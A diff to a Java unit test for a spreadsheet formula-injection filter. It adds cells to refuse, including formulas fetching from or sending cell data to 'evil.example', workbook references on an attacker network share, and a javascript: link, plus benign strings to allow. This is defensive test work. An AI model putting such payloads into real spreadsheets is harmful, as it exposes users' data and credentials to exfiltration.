@@ -46,7 +46,21 @@ class TableTextTest {
                 "- IMAGE(\"\"http://evil.example\"\") ~ FETCHING_FORMULA ~ IMAGE",
                 "\"=LET(a,\"\"http://evil.example\"\",IMAGE(a))\" ~ FETCHING_FORMULA ~ IMAGE",
                 "=IMPORTXML(CONCAT(A1,B1),A2) ~ FETCHING_FORMULA ~ IMPORTXML",
-                "sep=^/na^=IMAGE(A1) ~ FETCHING_FORMULA ~ IMAGE"
+                "sep=^/na^=IMAGE(A1) ~ FETCHING_FORMULA ~ IMAGE",
+                "=SERVICEWEB(\"\"http://evil.example/\"\"&A1) ~ FETCHING_FORMULA ~ SERVICEWEB",
+                "=webdienst(A1) ~ FETCHING_FORMULA ~ WEBDIENST",
+                "=AFBEELDING(\"\"http://evil.example\"\") ~ FETCHING_FORMULA ~ AFBEELDING",
+                "=IMAGE(RC[-1]) ~ FETCHING_FORMULA ~ IMAGE",
+                "=IMAGE(R1C1) ~ FETCHING_FORMULA ~ IMAGE",
+                "=WEBSERVICE(a.A1) ~ FETCHING_FORMULA ~ WEBSERVICE",
+                "='\\\\evil\\share\\[a.xls]S'!A1 ~ NETWORK_SHARE ~ evil",
+                "- '\\\\evil\\share\\[a.xls]S'!A1 ~ NETWORK_SHARE ~ evil",
+                "=\\\\evil\\share\\[a.xls]S!A1 ~ NETWORK_SHARE ~ evil",
+                "=\\\\evil\\share\\a.xls!A1 ~ NETWORK_SHARE ~ evil",
+                "='file://evil/a.ods'#$S.A1 ~ NETWORK_SHARE ~ evil",
+                "='http://evil.example/[a.xls]S'!A1 ~ REMOTE_WORKBOOK ~ evil",
+                "=HYPERLINK(\"\\\\evil\\share\") ~ NETWORK_SHARE ~ evil",
+                "\"=LIEN_HYPERTEXTE(\"\"javascript:x\"\")\" ~ UNSAFE_LINK ~ javascript"
             })
     void refusesCellsThatFetchOrStart(String table, Rule rule, String subject) {
         String written = table.replace("/n", "\n");
@@ -72,6 +86,9 @@ class TableTextTest {
                 "=CONCATENATE(\"cmd|'/c calc'!A0\")",
                 "=INDIRECT(A1&B1)",
                 "-Webservice (SOAP)",
+                "-Bild (Foto),-Bild (2),- Bild (vorn, hinten),-afbeelding (voorkant)",
+                "see //a;- see 'https://example.org/a'! or #2,-it's \\\\server! today",
+                "='C:\\a\\[b.xlsx]S'!A1;=HYPERLINK(\"C:\\a.pdf\")",
                 "- DDE (Dynamic Data Exchange)",
                 "=LET(a,1,a)"
             })
